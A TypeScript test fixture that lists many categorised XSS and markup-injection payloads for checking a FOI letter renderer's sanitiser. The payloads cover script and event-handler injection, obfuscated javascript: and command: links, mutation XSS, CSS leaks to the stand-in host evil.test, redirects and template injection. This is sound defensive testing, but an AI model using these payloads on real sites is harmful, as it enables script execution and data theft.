/*
 * Words that try to run a script, to fetch something or to lead away when a page shows them, by the way in which they try. Each calls `trap()`, or names
 * the host `evil.test`, which no page may ask.
 */

const URL = 'https://evil.test/x';

/** Every way, with its words. None has a line ending, so that it can stand in every place of a notice. */
export const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
  'tags that run': [
    '<script>trap()</script>',
    '<SCRIPT>trap()</SCRIPT>',
    '<script >trap()</script >',
    '<scr<script>ipt>trap()</scr</script>ipt>',
    '<script/x>trap()</script>',
    '<script\tx>trap()</script>',
    `<script src=${URL}.js></script>`,
    `<script src="//evil.test/x.js"></script>`,
    '<script type=module>trap()</script>',
    '<script>/*--></script><script>trap()</script>',
    '</script><script>trap()</script>',
    '</title><script>trap()</script>',
    '</style><script>trap()</script>',
    '</textarea><script>trap()</script>',
    '</main></body><script>trap()</script>',
    '--><script>trap()</script>',
    ']]><script>trap()</script>',
    '<script>trap`1`</script>',
    '<script>\u2028trap()</script>',
    '<script nonce="abc">trap()</script>',
    '<svg><script>trap()</script></svg>',
    '<svg><script href="data:text/javascript,trap()"></script></svg>',
    '<math><script>trap()</script></math>',
    `<object data="data:text/html,<script>parent.trap()</script>"></object>`,
    `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='trap()'/>">`,
  ],
  'handlers of events': [
    '<img src=x onerror=trap()>',
    '<img src=x onerror="trap()">',
    "<img src=x onerror='trap()'>",
    '<img src=x onerror=trap`1`>',
    '<IMG SRC=x ONERROR=trap()>',
    '<img/src=x/onerror=trap()>',
    '<img src=x\tonerror=trap()>',
    '<img src=x \u000conerror=trap()>',
    '<img src=x onerror=&#116;rap()>',
    '<img src=x onerror=&#x74;rap&lpar;&rpar;>',
    '<img src=x onerror=\\u0074rap()>',
    '<img """><script>trap()</script>">',
    '<img src=x:x onerror=eval(atob("dHJhcCgp"))>',
    '<svg onload=trap()>',
    '<svg/onload=trap()>',
    '<svg onload=trap()//',
    '<svg><animate onbegin=trap() attributeName=x dur=1s>',
    '<svg><set onbegin=trap() attributeName=x>',
    '<svg><a><animate attributeName=href values=javascript:trap() /><text x=20 y=20>x</text></a></svg>',
    '<svg><image href=x onerror=trap()></image></svg>',
    '<svg><foreignObject><body onload=trap()></foreignObject></svg>',
    '<body onload=trap()>',
    '<body onpageshow=trap()>',
    '<body onresize=trap() onfocus=trap() onhashchange=trap()>',
    '<input autofocus onfocus=trap()>',
    '<select autofocus onfocus=trap()>',
    '<textarea autofocus onfocus=trap()>',
    '<a href=# autofocus tabindex=1 onfocus=trap()>x</a>',
    '<details open ontoggle=trap()>',
    '<video src=x onerror=trap()></video>',
    '<video><source onerror=trap()></video>',
    '<audio src=x onerror=trap()></audio>',
    '<marquee onstart=trap()>x</marquee>',
    '<div style="animation:x 1s" onanimationstart=trap()>x</div>',
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationend=trap()>x</p>',
    '<p style="transition:color 1s" ontransitionrun=trap()>x</p>',
    '<p contenteditable onblur=trap() onfocus=trap() autofocus>x</p>',
    '<xss onafterscriptexecute=trap()><script>1</script>',
    '<iframe onload=trap()></iframe>',
    '<object onerror=trap() data=x></object>',
    '<link rel=stylesheet href=x onerror=trap()>',
    '<style onload=trap()></style>',
    '<dialog open onclose=trap()><form method=dialog><button autofocus>x</button></form></dialog>',
    '<p popover id=p onbeforetoggle=trap()>x</p><button popovertarget=p autofocus>x</button>',
    '<form onformdata=trap()><input></form>',
    '<p onscrollend=trap() style="overflow:auto">x</p>',
  ],
  'out of an attribute': [
    '" onmouseover="trap()',
    '" autofocus onfocus="trap()" x="',
    "' autofocus onfocus='trap()' x='",
    '"><script>trap()</script>',
    "'><script>trap()</script>",
    '"/><img src=x onerror=trap()>',
    '`><img src=x onerror=trap()>',
    '&quot;><img src=x onerror=trap()>',
    '&#34; onfocus=&#34;trap()',
    '" style="background:url(https://evil.test/x)',
    '" src="https://evil.test/x',
    '" href="javascript:trap()" x="',
    'x" id="foi-passages" class="x',
    '\\"><img src=x onerror=trap()>',
    '%22%3E%3Cscript%3Etrap()%3C/script%3E',
  ],
  entities: [
    '&lt;script&gt;trap()&lt;/script&gt;',
    '&#60;script&#62;trap()&#60;/script&#62;',
    '&#x3c;script&#x3e;trap()&#x3c;/script&#x3e;',
    '&#0000060script>trap()</script>',
    '&LT;img src=x onerror=trap()&GT;',
    '&amp;lt;script&amp;gt;trap()&amp;lt;/script&amp;gt;',
    '&amp;#60;img src=x onerror=trap()&amp;#62;',
    '\\<img src=x onerror=trap()\\>',
    '\\u003cimg src=x onerror=trap()\\u003e',
    '\\x3cscript\\x3etrap()\\x3c/script\\x3e',
    '+ADw-script+AD4-trap()+ADw-/script+AD4-',
    '＜script＞trap()＜/script＞',
    '<\u200bscript>trap()</script>',
    '<\u0000script>trap()</script>',
    '\ufeff<script>trap()</script>',
    '\u202e>tpircs/<()part>tpircs<',
  ],
  'targets that run': [
    '[x](javascript:trap())',
    '[x](JaVaScRiPt:trap())',
    '[x](<javascript:trap()>)',
    '[x]( javascript:trap())',
    '[x](\u0001javascript:trap())',
    '[x](java&#10;script:trap())',
    '[x](java&Tab;script:trap())',
    '[x](java&NewLine;script&colon;trap())',
    '[x](&#106;avascript:trap())',
    '[x](&#x6A;&#x61;vascript:trap())',
    '[x](javascript&colon;trap())',
    '[x](javascript\\:trap())',
    '[x](java\\script:trap())',
    '[x](javascript%3Atrap())',
    '[x](<java script:trap()>)',
    '[x](java\u00adscript:trap())',
    '[x](java\u200bscript:trap())',
    '[x](javascript://evil.test/%0atrap())',
    '[x](vbscript:trap())',
    '[x](data:text/html,<script>trap()</script>)',
    '[x](data:text/html;base64,PHNjcmlwdD50cmFwKCk8L3NjcmlwdD4=)',
    '[x](DATA:text/html;charset=utf-7,+ADw-script+AD4-)',
    '[x](blob:https://evil.test/1)',
    '[x](file:///etc/passwd)',
    '[x](filesystem:https://evil.test/1)',
    '[x](view-source:https://evil.test)',
    '[x](jar:https://evil.test!/x)',
    '[x](ms-settings:privacy)',
    '[x](vscode:extension/evil.evil)',
    '[x](command:workbench.action.terminal.new)',
    '[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22x%22%7D)',
    '[x](Command:workbench.action.quit)',
    '[x](\\\\evil.test\\share)',
    '[x](//evil.test/x)',
    '[x](/etc/passwd)',
    '[x](../../../../etc/passwd)',
    '<javascript:trap()>',
    '<JAVASCRIPT:trap()>',
    '<data:text/html,trap>',
    '<vbscript:trap()>',
    '<command:workbench.action.quit>',
    '<a href="javascript:trap()">x</a>',
    '<a href=" &#14; javascript:trap()">x</a>',
    '<a href="java\tscript:trap()">x</a>',
    '<a href="https://evil.test" ping="https://evil.test/ping">x</a>',
    '<area href=javascript:trap()>',
    '<form action=javascript:trap()><input type=submit autofocus></form>',
    '<button formaction=javascript:trap() form=f>x</button>',
    '<svg><a xlink:href="javascript:trap()"><text y=20>x</text></a></svg>',
    '<math href="javascript:trap()">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:trap()">x</maction></math>',
  ],
  'targets alone': [
    URL,
    '//evil.test/x',
    '///evil.test/x',
    '/\\evil.test/x',
    '\\\\evil.test\\share',
    'javascript:trap()',
    'data:text/html,<script>trap()</script>',
    'command:workbench.action.quit',
    '/etc/passwd',
    'C:/Windows/win.ini',
  ],
  'titles and texts of links': [
    '[x](https://example.org "\'><img src=x onerror=trap()>")',
    '[x](https://example.org "x\\" onmouseover=\\"trap()")',
    '[x](https://example.org/"onmouseover="trap())',
    "[x](https://example.org/'onmouseover='trap())",
    '[x](https://example.org/<img src=x onerror=trap()>)',
    '[<img src=x onerror=trap()>](https://example.org)',
    '[![x](https://evil.test/x)](https://example.org)',
    'https://example.org/"onmouseover="trap()',
    "https://example.org/'><script>trap()</script>",
    'www.example.org/"><img src=x onerror=trap()>',
    'a@example.org"onmouseover="trap()',
    '<https://example.org/"onmouseover="trap()>',
    '[x]: javascript:trap() "x"',
    '[x][y]',
    '[x]: <javascript:trap()>',
    '[^1]: <img src=x onerror=trap()>',
  ],
  'pictures and what else is fetched': [
    `![x](${URL}.png)`,
    `![x](//evil.test/x.png)`,
    `![x][y]`,
    `![" onerror="trap()](x)`,
    '![x](javascript:trap())',
    '![x](data:image/svg+xml,<svg onload=trap()>)',
    '![x](x "onerror=trap()")',
    `<img src=${URL}.png>`,
    `<img srcset="${URL}.png 1x">`,
    `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9dHJhcCgpPg==">`,
    `<picture><source srcset=${URL}.png><img></picture>`,
    `<input type=image src=${URL}.png>`,
    `<video poster=${URL}.png>`,
    `<audio src=${URL}.mp3 autoplay>`,
    `<body background=${URL}.png>`,
    `<table background=${URL}.png><tr><td background=${URL}.png>x</td></tr></table>`,
    `<svg><image href=${URL}.png></image></svg>`,
    `<svg><use href="${URL}.svg#x"></use></svg>`,
    `<svg><feImage href=${URL}.png></feImage></svg>`,
    `<link rel=stylesheet href=${URL}.css>`,
    `<link rel=preload as=image href=${URL}.png>`,
    '<link rel=dns-prefetch href=//evil.test>',
    `<link rel=icon href=${URL}.png>`,
    `<link rel=manifest href=${URL}.json>`,
    `<object data=${URL}></object>`,
    `<embed src=${URL}>`,
    `<applet code=${URL}></applet>`,
    `<track src=${URL}.vtt default>`,
  ],
  styles: [
    `<p style="background:url(${URL}.png)">x</p>`,
    `<p style="background:\\75rl(${URL}.png)">x</p>`,
    `<p style="background-image:image-set(url(${URL}.png) 1x)">x</p>`,
    '<p style="width:expression(trap())">x</p>',
    '<p style="behavior:url(https://evil.test/x.htc)">x</p>',
    `<style>@import '${URL}.css';</style>`,
    `<style>@import url(${URL}.css);</style>`,
    `<style>body{background:url(${URL}.png)}</style>`,
    `<style>@font-face{font-family:x;src:url(${URL}.woff2)}body{font-family:x}</style>`,
    `<style>input[value^=a]{background:url(${URL})}</style><input value=a>`,
    `<STYLE>*{cursor:url(${URL}.cur),auto}</STYLE>`,
    '<p style="position:fixed;inset:0;background:#fff">You have won</p>',
  ],
  'frames and pages in the place of this one': [
    '<iframe src=javascript:trap()></iframe>',
    '<iframe srcdoc="<script>parent.trap()</script>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.trap()&lt;/script&gt;"></iframe>',
    `<iframe src=${URL}></iframe>`,
    '<iframe src="data:text/html,<script>parent.postMessage(1)</script>"></iframe>',
    `<frameset><frame src=${URL}></frameset>`,
    `<portal src=${URL}></portal>`,
    `<fencedframe src=${URL}></fencedframe>`,
    '<base href="https://evil.test/">',
    '<base target=_top href=//evil.test>',
    `<meta http-equiv=refresh content="0;url=${URL}">`,
    '<meta http-equiv="refresh" content="0;url=javascript:trap()">',
    '<META HTTP-EQUIV=Refresh CONTENT="0; URL=data:text/html,<script>trap()</script>">',
    `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${URL}">`,
    '<meta http-equiv=set-cookie content="a=b">',
    '<meta charset=utf-7>',
    `<form action=${URL} id=f><input name=a></form><button form=f autofocus>x</button>`,
  ],
  'markup that changes when it is read twice': [
    '<noscript><p title="</noscript><img src=x onerror=trap()>">',
    '<template><script>trap()</script></template>',
    '<template shadowrootmode=open><img src=x onerror=trap()></template>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=trap()&gt;">',
    '<math><mtext><table><mglyph><style><math><img src=x onerror=trap()>',
    '<svg></p><style><a id="</style><img src=x onerror=trap()>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=trap()>',
    '<svg><p><style><g title="</style><img src=x onerror=trap()>">',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=trap()>">',
    '<xmp><p title="</xmp><svg/onload=trap()>">',
    '<noembed><img title="</noembed><img src=x onerror=trap()>"></noembed>',
    '<plaintext><img src=x onerror=trap()>',
    '<title><p title="</title><img src=x onerror=trap()>">',
    '<textarea><p title="</textarea><img src=x onerror=trap()>">',
    '<!--><img src=x onerror=trap()>-->',
    '<!---><img src=x onerror=trap()>-->',
    '<!-- --!><img src=x onerror=trap()> -->',
    '<![CDATA[><img src=x onerror=trap()>]]>',
    '<?xml version="1.0"?><img src=x onerror=trap()>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.test/x">]><p>&e;</p>',
    '</ p onmouseover=trap()>',
    '<p/<img src=x onerror=trap()>',
    '<x<y<img src=x onerror=trap()>',
  ],
  'names that pages look up': [
    '<form id=documentElement name=body><input name=attributes><input name=parentNode></form>',
    '<a id=acquireVsCodeApi></a><a id=acquireVsCodeApi name=postMessage href=https://evil.test></a>',
    '<img name=getElementById src=x>',
    '## __proto__',
    '## constructor',
    '((__proto__))',
    '((constructor.prototype))',
    '{{constructor.constructor("trap()")()}}',
    '${trap()}',
    '<%= trap() %>',
    '#{trap()}',
    '{%if trap()%}',
    '$(trap)',
    '`trap()`',
    '```js trap()```',
    '$$\\href{javascript:trap()}{x}$$',
    '$\\unicode{<img src=x onerror=trap()>}$',
  ],
  'Markdown around HTML': [
    '**<img src=x onerror=trap()>**',
    '`<img src=x onerror=trap()>`',
    '~~<svg onload=trap()>~~',
    '> <img src=x onerror=trap()>',
    '- <img src=x onerror=trap()>',
    '# <img src=x onerror=trap()>',
    '| <img src=x onerror=trap()> | x |',
    '<div markdown="1">[x](javascript:trap())</div>',
    '<x-y>[x](javascript:trap())</x-y>',
    ':::withheld{exemption="<img src=x onerror=trap()>"}',
    '{onmouseover="trap()"}',
    '![x](x){onerror=trap()}',
    '[x](x){onclick=trap()}',
    ':img{src=x onerror=trap()}',
  ],
};

export const ALL_PAYLOADS: readonly string[] = Object.values(PAYLOADS).flat();

/** A letter that has these words in every place where words can stand. */
export function letterWith(words: string): string {
  const inYaml = JSON.stringify(words);
  const inAttribute = words.replaceAll('"', '”');
  return `---
foi: 1
reference: ${inYaml}
subject: ${inYaml}
title: ${inYaml}
authority: council
requester: { name: ${inYaml}, email: ${inYaml}, address: ${inYaml} }
signatory: { name: ${inYaml}, title: ${inYaml}, team: ${inYaml}, contact: ${inYaml} }
received: 2026-10-01
issued: ${inYaml}
regime: ${inYaml}
language: ${inYaml}
fields: { team: ${inYaml}, ${inYaml}: ${inYaml} }
attachments:
  - { file: ${inYaml}, title: ${inYaml} }
  - { file: a.csv, title: ${inYaml} }
waivers:
  - { rule: rights-missing, reason: ${inYaml} }
  - { rule: ${inYaml}, reason: ${inYaml} }
${inYaml}: ${inYaml}
---

# ${words}

Dear ${words},

${words}

Words before ${words} and behind. The team is ((team)), and ((${words})) is none. See [the table](a.csv), [x](${words}) and [${words}](https://example.org).

[y]: https://evil.test/y.png "${inAttribute}"

:::request
1. How many? ${words}
   (a) ${words}
2. ${words}
:::

## Question 1 ${words}

:::withheld{exemption="40(2)" question="${inAttribute}" ${inAttribute}="${inAttribute}"}
We withhold it under section 40(2) and section 31(1)(${words}). ${words}

| Head ${words} | Other |
| --- | ---: |
| ${words} | ${words} |

> ${words}

- ${words}
  - ${words}
:::

:::disclosed{questions="${inAttribute}"}
${words}
:::

:::standard{id="${inAttribute}" rev="1"}
${words}
:::

:::internal{note="${inAttribute}"}
${words}
:::

:::${words}
${words}
:::

<!-- foi-waive ${words}: ${words} -->

    ${words}

[insert: ${words}]

${words}
===

Yours sincerely,

${words}
`;
}

/** The profile of an authority that has these words wherever it can. */
export function profileWith(words: string): string {
  const inYaml = JSON.stringify(words);
  return `name: ${inYaml}
short_name: ${inYaml}
regime: FOIA
kind: ${inYaml}
address: ${inYaml}
email: ${inYaml}
telephone: ${inYaml}
website: ${inYaml}
internal_review: { name: ${inYaml}, email: ${inYaml}, address: ${inYaml}, days: ${inYaml} }
letterhead: ${inYaml}
fields: { team: ${inYaml}, ${inYaml}: ${inYaml} }
`;
}
